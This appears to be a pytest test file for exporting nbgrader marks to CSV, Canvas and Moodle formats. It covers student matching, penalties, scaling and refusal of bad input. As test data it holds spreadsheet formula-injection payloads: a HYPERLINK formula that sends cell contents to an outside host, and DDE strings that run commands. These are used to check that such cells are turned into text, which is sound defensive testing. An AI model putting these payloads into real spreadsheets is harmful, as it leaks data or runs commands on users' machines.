"""Tests that marks are exported in the formats of nbgrader, Canvas and Moodle, without losing a student."""

import csv
import io
import logging
import os
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
from conftest import ROOT, missing
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.nbgrader_plugin.export import lms
from autograder.nbgrader_plugin.export.lms import CanvasExport, CsvExport, MoodleExport
from autograder.nbgrader_plugin.gradebook.roster import Unusable, read

ATTENTION, MASKING = "05-attention", "06-masking"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"marks")'
STUDENTS = {  # id: first name, last name, email, number in the system
    "amina": ("Amina", "Bello, PhD", "amina@example.edu", "4711"),
    "jgarcia": ("José", 'García "Pepe" Pérez', "Jose@Example.edu", "4712"),
    "late": ("Lena", "Late", "late@example.edu", "4713"),
    "essay": ("Emeka", "Essay", "essay@example.edu", "4714"),
    "nothing": ("Nora", "Nothing", "nothing@example.edu", "4715"),
    "formula": ("Fay", FORMULA, "fay@example.edu", "4716"),
    "bare": (None, None, None, None),
}
SCORES = {"amina": 10.0, "jgarcia": 7.5, "late": 9.0, "essay": 4.0, "formula": 1 / 3, "bare": 2.0}  # of 05-attention
CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{ATTENTION} (90)", "Project (91)"]
WORKSHEET_HEADER = [
    "Identifier",
    "Full name",
    "Email address",
    "Status",
    "Grade",
    "Maximum grade",
    "Grade can be changed",
    "Last modified (grade)",
    "Feedback comments",
]


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    with Gradebook(f"sqlite:///{path}", "transformers") as gradebook:
        for name, points in ((ATTENTION, 8), (MASKING, 5)):
            gradebook.add_assignment(name)
            gradebook.add_notebook(name, name)
            gradebook.add_grade_cell("test_softmax", name, name, max_score=points, cell_type="code")
            gradebook.add_grade_cell("written", name, name, max_score=2, cell_type="markdown")
        for student, (first, last, email, number) in STUDENTS.items():
            gradebook.add_student(student, first_name=first, last_name=last, email=email, lms_user_id=number)
        for student, score in SCORES.items():
            gradebook.add_submission(ATTENTION, student)
            cells = ("test_softmax", "written")
            automatic, written = (gradebook.find_grade(one, ATTENTION, ATTENTION, student) for one in cells)
            automatic.auto_score, automatic.needs_manual_grade = score, False
            written.manual_score, written.needs_manual_grade = 0.0, student == "essay"
        [notebook] = gradebook.find_submission(ATTENTION, "late").notebooks
        notebook.late_submission_penalty = 2.5
        gradebook.db.commit()
    return path


@pytest.fixture
def gradebook(made, tmp_path):
    shutil.copy(made, tmp_path / "gradebook.db")
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "transformers") as opened:
        yield opened


@pytest.fixture(autouse=True)
def heard(caplog):
    caplog.set_level(logging.INFO)
    return caplog


def written(exporter, gradebook, path):
    exporter.to = str(path)
    exporter.export(gradebook)
    return table(path)


def table(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def save(path, rows, encoding="utf8", delimiter=","):
    with path.open("w", encoding=encoding, newline="") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)
    return str(path)


def canvas_row(name, number, login="", mark=""):
    return [name, number, f"S{number}", login, "Section 1", mark, "50"]


def canvas_roster(path, *rows, points="10", **how):
    head = [CANVAS_HEADER, ["    Points Possible", "", "", "", "", points, "(read only)"]]
    return save(path, [*head, *rows], **how)


def worksheet_row(number, name, email, grade="", maximum="10.00", comments=""):
    return [f"Participant {number}", name, email, "Submitted", grade, maximum, "Yes", "-", comments]


@pytest.fixture
def canvas(gradebook, tmp_path):
    """Fill marks into a table of Canvas's with some rows; return the first two lines and the others."""

    def export(*rows, options=(), **how):
        roster = canvas_roster(tmp_path / "canvas.csv", *rows, **how)
        exporter = CanvasExport(roster=roster, **{"assignment": [ATTENTION]} | dict(options))
        out = written(exporter, gradebook, tmp_path / "out.csv")
        return out[:2], out[2:]

    return export


@pytest.fixture
def moodle(gradebook, tmp_path):

    def export(header, *rows, options=(), delimiter=","):
        roster = save(tmp_path / "moodle.csv", [header, *rows], delimiter=delimiter)
        exporter = MoodleExport(roster=roster, **{"assignment": [ATTENTION]} | dict(options))
        exporter.to = str(tmp_path / "out.csv")
        exporter.export(gradebook)
        return read(tmp_path / "out.csv").rows

    return export


LATE = canvas_row("Late, Lena", "4713", "late")


def test_the_csv_is_nbgraders_own_but_for_the_quotes_around_names(gradebook, tmp_path):
    header, *rows = written(CsvExport(), gradebook, tmp_path / "grades.csv")
    assert (tmp_path / "grades.csv").stat().st_mode & 0o077 == 0, "its owner alone can read it"
    assert {len(row) for row in rows} == {len(header)}
    assert {dict(zip(header, row, strict=True))["last_name"] for row in rows} >= {"Bello, PhD", 'García "Pepe" Pérez'}
    broken = written(CsvExportPlugin(), gradebook, tmp_path / "theirs.csv")
    assert {len(row) for row in broken} != {len(header)}  # else we need none of our own
    for student in ("amina", "jgarcia", "formula"):  # whose names break the columns of nbgrader's
        gradebook.remove_student(student)
    ours = written(CsvExport(), gradebook, tmp_path / "ours.csv")
    assert len(ours) == 1 + 2 * 4
    assert ours == written(CsvExportPlugin(), gradebook, tmp_path / "theirs.csv")


def test_the_csv_may_be_of_one_assignment_and_some_students(gradebook, tmp_path):
    exporter = CsvExport(student=["late", "nothing"], assignment=[ATTENTION])
    header, *rows = written(exporter, gradebook, tmp_path / "grades.csv")
    found = [dict(zip(header, row, strict=True)) for row in rows]
    columns = ("student_id", "raw_score", "late_submission_penalty", "score")
    expected = [("late", "9.0", "2.5", "6.5"), ("nothing", "0.0", "0.0", "0.0")]
    assert [tuple(row[column] for column in columns) for row in found] == expected
    for what, sentence in (("student", "the student nobody"), ("assignment", "assignment nobody")):
        with pytest.raises(Unusable, match=sentence):
            written(CsvExport(**{what: ["nobody"]}), gradebook, tmp_path / "nobody.csv")
    assert not (tmp_path / "nobody.csv").exists()


@pytest.mark.parametrize("exporter", [CsvExport, CanvasExport, MoodleExport])
def test_what_a_person_has_still_to_mark_is_reported_and_may_be_left_out(gradebook, tmp_path, heard, exporter):
    rows = written(exporter(assignment=[ATTENTION]), gradebook, tmp_path / "all.csv")
    assert any(f"'{FORMULA}" in cell for row in rows for cell in row), "a formula leaves as text"
    assert not any(cell.lstrip().startswith(("=", "@")) for row in rows for cell in row)
    output = "Submissions of 05-attention have still to be marked by a person (exported as they stand) (1): Emeka"
    assert f"{output} Essay (essay)" in heard.text
    options = {} if exporter is CsvExport else {"missing_as_zero": True}
    fewer = exporter(assignment=[ATTENTION], leave_out_unfinished=True, **options)
    assert any("essay" in row for row in rows)
    assert not any("essay" in row for row in written(fewer, gradebook, tmp_path / "fewer.csv"))


def test_canvas_gets_its_own_table_back_with_the_marks_filled_in(canvas, tmp_path, heard):
    head, rows = canvas(
        canvas_row("Bello, PhD, Amina", "4711", "somebody-else", "3"),  # the number says more than the login
        canvas_row('García "Pepe" Pérez, José', "8888", "jose@example.edu"),
        LATE,
        canvas_row("Essay, Emeka", "4714", "", "EX"),
        canvas_row("Nothing, Nora", "4715", "nothing", "4"),
        canvas_row("Stranger, Sam", "9999", "stranger"),
        encoding="utf-8-sig",
    )
    assert head == [CANVAS_HEADER[:6], ["    Points Possible", "", "", "", "", "10"]]
    assert {row[0]: row[5] for row in rows} == {
        "Bello, PhD, Amina": "10",
        'García "Pepe" Pérez, José': "",  # the login is that of jgarcia, whose number is another
        "Late, Lena": "6.5",  # 9 less the penalty
        "Essay, Emeka": "EX",
        "Nothing, Nora": "4",
        "Stranger, Sam": "",
    }
    assert not missing(
        heard.text,
        "Rows of",
        "jose@example.edu is that of jgarcia, whose lms_user_id is 4712",
        "are not in the gradebook and were not filled in (1): Stranger, Sam",
        "Students have no mark for 05-attention and stay as they are (1): Nora Nothing (nothing)",
        "enter theirs by hand (3): bare: 2; Fay",
        "jgarcia): 7.5",
        "excused from 05-attention, or not assigned to it, in Canvas, and stay so (1): Emeka Essay (essay): EX",
    )
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # as it came


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_students_are_found_by_number_login_or_address(gradebook, tmp_path, delimiter):
    gradebook.add_student("canvas-77")  # whom zip_collect took in under Canvas's number
    gradebook.add_submission(ATTENTION, "canvas-77")
    known = [("4711", ""), ("", "JGARCIA"), ("", "Late@Example.edu"), ("bare", ""), ("77", "")]
    rows = [canvas_row(f"Name {number}", *one) for number, one in enumerate(known)]
    roster = canvas_roster(tmp_path / "canvas.csv", *rows, delimiter=delimiter)
    CanvasExport(roster=roster, assignment=[ATTENTION], to=str(tmp_path / "out.csv")).export(gradebook)
    assert [row[5] for row in read(tmp_path / "out.csv").rows[1:]] == ["10", "7.5", "6.5", "2", "0"]
    assert read(tmp_path / "out.csv").delimiter == delimiter


def test_canvas_gets_no_tabs_which_it_does_not_read(canvas, tmp_path):
    canvas(canvas_row("Bello, Amina", "4711"), delimiter="\t")
    assert read(tmp_path / "out.csv").delimiter == ","


def test_two_rows_for_one_student_are_not_filled_in(canvas, heard):
    _, rows = canvas(canvas_row("One, Amina", "4711"), canvas_row("Two, Amina", "", "amina"))
    assert [row[5] for row in rows] == ["", ""]
    assert "One, Amina: 2 rows mean amina; Two, Amina: 2 rows mean amina" in heard.text
    assert "Amina Bello, PhD (amina): 10" in heard.text  # and who is not in the file is said with the mark


def test_two_students_with_one_address_are_not_filled_in(gradebook, canvas, heard):
    gradebook.update_or_create_student("nothing", email="late@example.edu")
    _, [row] = canvas(canvas_row("Somebody", "", "late@example.edu"))
    assert row[5] == ""
    assert "is that of 2 students" in heard.text


def test_without_a_roster_canvas_gets_a_new_table_in_its_form(gradebook, tmp_path, heard):
    rows = written(CanvasExport(), gradebook, tmp_path / "out.csv")
    assert rows[0] == ["Student", "ID", "SIS Login ID", "Section", ATTENTION, MASKING]
    assert rows[1] == ["    Points Possible", "", "", "", "10", "7"]
    assert not missing(rows, ["Bello, PhD, Amina", "4711", "amina", "", "10", ""], ["bare", "", "bare", "", "2", ""])
    assert "Students have no mark and are not in the file (1): Nora Nothing (nothing)" in heard.text
    assert len(rows) == 2 + len(SCORES)


def test_a_missing_submission_counts_as_zero_only_on_request(canvas):
    row = canvas_row("Nothing, Nora", "4715", "nothing", "4")
    assert canvas(row)[1][0][5] == "4"
    assert canvas(row, options={"missing_as_zero": True})[1][0][5] == "0"


def test_marks_are_scaled_to_another_maximum_only_on_request(canvas, heard):
    assert canvas(LATE, points="100")[1][0][5] == "6.5"
    assert "Canvas has a maximum of 100 for 05-attention, and the gradebook one of 10" in heard.text
    assert canvas(LATE, points="100", options={"scale": True})[1][0][5] == "65"


def test_an_assignment_without_a_column_is_refused_with_what_to_do(canvas, heard):
    with pytest.raises(Unusable, match=r"has no column for 06-masking\. Make the assignment in Canvas"):
        canvas(LATE, options={"assignment": [MASKING]})
    assert canvas(LATE, options={"titles": {ATTENTION: "Project (91)"}})[0][0][5:] == ["Project (91)"]
    assert canvas(LATE, options={"assignment": []})[1][0][5:] == ["6.5"], "without a choice all that Canvas has"
    assert "Assignments have no column in" in heard.text


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"Student,ID,Section\n\xe9,1,2\n", "is not UTF-8"),
        (b"", "is not a table"),
        (b"just a line\n", "is not a table"),
        (b"Student,ID,Section\nBello, Amina,4711,1\n", "has 4 cells, and there are 3 columns"),
        (b'Student,ID,Section\n"Bello,4711,1\n', "is not a CSV file"),
        (b"Name,Number\nBello,4711\n", "is not Canvas's gradebook: it has no column Student, ID, Section"),
        (None, "cannot be read: No such file"),
    ],
)
def test_a_roster_that_cannot_be_read_is_refused_and_nothing_is_written(gradebook, tmp_path, content, sentence):
    roster = tmp_path / "canvas.csv"
    if content is not None:
        roster.write_bytes(content)
    exporter = CanvasExport(roster=str(roster), assignment=[ATTENTION], titles={ATTENTION: "Section"})
    with pytest.raises(Unusable, match=sentence):
        written(exporter, gradebook, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_only_the_grades_of_moodles_worksheet_are_filled_in(gradebook, moodle, heard):
    gradebook.add_student("moodle-55")  # whom zip_collect took in under Moodle's number
    gradebook.add_submission(ATTENTION, "moodle-55")
    rows = [
        worksheet_row("51", "Lena Late", "late@example.edu", comments="- see page 2"),
        worksheet_row("52", "José García", "jose@example.edu", "1.00"),
        worksheet_row("53", "Sam Stranger", "sam@example.edu"),
        worksheet_row("55", "Hidden", ""),
    ]
    grade = WORKSHEET_HEADER.index("Grade")
    marks = ("6.5", "7.5", "", "0")
    expected = [[*row[:grade], mark, *row[grade + 1 :]] for row, mark in zip(rows, marks, strict=True)]
    assert moodle(WORKSHEET_HEADER, *rows) == expected
    assert "are not in the gradebook and were not filled in (1): Sam Stranger" in heard.text
    assert "enter theirs by hand" in heard.text


def test_marks_that_moodle_would_pass_over_are_reported(moodle, heard):
    row, header = worksheet_row("51", "Amina", "amina@example.edu", maximum="8.00"), ["First name", *WORKSHEET_HEADER]
    options = {"student": ["amina", "late"]}
    assert moodle(header, ["Amina", *row], options=options)[0][5] == "10"
    assert "Students have more for 05-attention than Moodle's maximum" in heard.text
    heard.clear()
    for name in ("Amina", "Points Possible"):  # called like Canvas's row of maxima, somebody sets none
        assert moodle(header, [name, *row], options=options | {"scale": True})[0][5] == "8"
    assert "maximum" not in heard.text


def test_a_worksheet_in_another_language_needs_its_headings(moodle):
    german = {
        **{"Identifier": "ID", "Email address": "E-Mail-Adresse", "Grade": "Bewertung"},
        **{"Last modified (grade)": "Zuletzt geändert (Bewertung)", "Maximum grade": "Bestwertung"},
    }
    header = [german.get(name, name) for name in WORKSHEET_HEADER]
    row = worksheet_row("51", "Lena Late", "late@example.edu", maximum="10,00")
    with pytest.raises(Unusable, match="none of the columns that Moodle knows students by"):
        moodle(header, row, options={"titles": {ATTENTION: "Bewertung"}}, delimiter=";")
    assert moodle(header, row, options={"headings": german, "decimal": ","}, delimiter=";")[0][4] == "6,5"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_worksheet_has_commas_the_only_delimiter_moodle_reads(moodle, tmp_path, delimiter):
    moodle(WORKSHEET_HEADER, worksheet_row("51", "Lena Late", "late@example.edu"), delimiter=delimiter)
    assert read(tmp_path / "out.csv").delimiter == ","


def test_moodles_grade_export_comes_back_too(moodle):
    header = ["First name", "Last name", "ID number", "Email address", f"Assignment: {ATTENTION} (Real)"]
    row = ["Amina", "Bello", "4711", "old@example.edu", "-"]
    assert moodle(header, row, options={"assignment": []})[0][4] == "10"
    with pytest.raises(Unusable, match="Several columns"):
        moodle([*header, f"Assignment: {ATTENTION} (Percentage)"], [*row, "-"], options={"assignment": []})
    with pytest.raises(Unusable, match="worksheet of one assignment, and the gradebook has 2"):
        moodle(WORKSHEET_HEADER, worksheet_row("51", "Lena", "late@example.edu"), options={"assignment": []})


def test_without_a_roster_moodle_gets_a_new_table(gradebook, tmp_path):
    rows = written(MoodleExport(assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
    assert rows[0] == ["Username", "ID number", "Email address", "First name", "Last name", ATTENTION]
    assert ["jgarcia", "4712", "Jose@Example.edu", "José", 'García "Pepe" Pérez', "7.5"] in rows
    assert [row[5] for row in rows if row[0] == "formula"] == ["0.3333"]


def test_a_formula_in_a_roster_becomes_text_and_its_row_gets_its_mark(canvas, heard):
    dangerous = canvas_row("Late, Lena", "4713", "=cmd|' /C calc'!A0")
    _, [first, second] = canvas(canvas_row("=1+1", "4711", "+amina"), dangerous)
    assert first[:4] == ["'=1+1", "4711", "S4711", "+amina"]  # which cannot do harm, and Canvas looks for it
    assert second[3] == "'=cmd|' /C calc'!A0"
    assert [first[5], second[5]] == ["10", "6.5"]
    assert "Cells could be run by a spreadsheet; made a text (1): Late, Lena: SIS Login ID" in heard.text


def test_what_begins_like_a_formula_becomes_text():
    for cell in ("=1", "+1", "-1", "@A1", "\t=1", " =1", "＝1", "\r=1"):
        assert lms.as_text(cell) == f"'{cell}"
    for cell in ("", "-", "Bello", "José", "4711", "a=b", "o'Neil", " padded"):
        assert lms.as_text(lms.as_key(cell)) == cell
    for key in ("=A1()", "-cmd|' /C calc'!A0", '@SUM("a")', "+file:///x"):
        assert lms.as_key(key) == f"'{key}"
    assert lms.as_key("-dash.name@example.edu") == "-dash.name@example.edu"


def test_marks_are_not_written_where_git_would_publish_them(gradebook, tmp_path, tmp_path_factory, monkeypatch):
    subprocess.run(["git", "init", "--quiet", tmp_path], check=True)
    shutil.copy(ROOT / ".gitignore", tmp_path)
    with pytest.raises(Unusable, match="git does not ignore it: marks would be published"):
        written(CsvExport(), gradebook, tmp_path / "marks.csv")
    assert not (tmp_path / "marks.csv").exists()
    for name in ("classroom/marks.csv", "grades.csv", "grades-canvas.csv"):
        assert len(written(CsvExport(), gradebook, tmp_path / name)) == 1 + 2 * len(STUDENTS)
    done = subprocess.run(["git", "-C", tmp_path, "status", "--short", "-uall"], capture_output=True, text=True)
    assert not re.search(r"grades|marks\.csv", done.stdout)
    lms.refuse_published(tmp_path_factory.mktemp("none") / "grades.csv")  # there is no repository
    monkeypatch.setenv("PATH", str(tmp_path))
    lms.refuse_published(ROOT / "marks.csv")  # nor where there is no git


@pytest.mark.slow
def test_the_commands_of_the_guides_work(made, tmp_path):
    for name in ("autograder", "transformer_exercises", "course"):
        (tmp_path / name).symlink_to(ROOT / name)
    for name in ("nbgrader_config.py", "students.example.csv"):
        shutil.copy(ROOT / name, tmp_path)
    classroom = tmp_path / "classroom"
    archive = classroom / "downloaded" / ATTENTION / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "Course-Attention-77.zip", "w") as download:
        download.writestr(f"Lena Late_51_assignsubmission_file_/{ATTENTION} (1).ipynb", "{}")
    shutil.copy(made, classroom / "gradebook.db")
    canvas_roster(classroom / "canvas.csv", canvas_row("Late, Lena", "4713", "late"))
    save(classroom / "worksheet.csv", [WORKSHEET_HEADER, worksheet_row("51", "Lena Late", "late@example.edu")])
    pages = ("instructors", "canvas-and-moodle")
    text = "".join((ROOT / "docs" / f"{name}.md").read_text("utf-8") for name in pages)
    lines = [line.split("#")[0].strip() for line in text.splitlines()]
    starts = ("autograder export", "autograder class-list", "nbgrader zip_collect", "cp students")
    commands = [line for line in lines if line.startswith(starts) and "--checks" not in line]
    assert len(commands) == 8
    hidden = ("COURSE_CLASSROOM", "PYTHONPATH")
    environment = {key: value for key, value in os.environ.items() if key not in hidden}

    def run(command):
        command = re.sub("^autograder", f"{sys.executable} -m autograder.cli", command)
        return subprocess.run(command, shell=True, cwd=tmp_path, env=environment, capture_output=True, text=True)

    for command in commands:
        done = run(command)
        assert done.returncode == 0, f"{command}\n{done.stdout}{done.stderr}"
    assert "Bello, PhD" in (classroom / "grades.csv").read_text()
    assert [row[5] for row in table(classroom / "grades-canvas.csv")[2:]] == ["6.5"]
    assert [row[4] for row in table(classroom / "grades-moodle.csv")[1:]] == ["6.5"]
    submitted = {path.relative_to(classroom / "submitted").parts for path in classroom.glob("submitted/*/*/*")}
    assert submitted == {(who, ATTENTION, f"{ATTENTION}.ipynb") for who in ("moodle-51", "late")}  # first, then known
    with Gradebook(f"sqlite:///{classroom}/gradebook.db", "transformers") as gradebook:
        assert gradebook.find_student("ngozi").lms_user_id == "20413"
    refused = run("nbgrader export --assignment \"['07-multi-head']\"")  # nbgrader's own command writes the same
    assert "The gradebook does not know the assignment 07-multi-head." in refused.stderr
    assert (refused.returncode, "Traceback" in refused.stderr) == (1, False)
